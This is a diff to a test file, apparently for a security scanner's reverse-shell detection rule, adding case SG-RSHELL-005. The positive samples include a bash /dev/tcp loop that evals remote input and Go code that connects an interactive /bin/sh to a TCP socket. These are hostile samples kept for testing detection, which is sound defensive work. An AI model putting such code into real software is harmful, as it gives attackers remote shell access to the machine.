@@ -58,4 +58,12 @@ describeRuleCases('reverse-shell', [
       'nohup sh -c "exec 5<>/dev/tcp/$a.$b.$c.$d/$p; while read -r l <&5; do eval \\"$l\\" >&5; done" &\n',
     negative: 'timeout 2 bash -c "true" && echo ok\n',
   },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'relay/main.go',
+    positive:
+      'cmd := exec.Command("/bin/sh", "-i")\nc, err := net.DialTimeout("tcp", ep, 10*time.Second)\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n',
+    negative:
+      'c, err := net.DialTimeout("tcp", ep, 10*time.Second)\nout, _ := exec.Command("git", "status").Output()\n',
+  },
 ]);
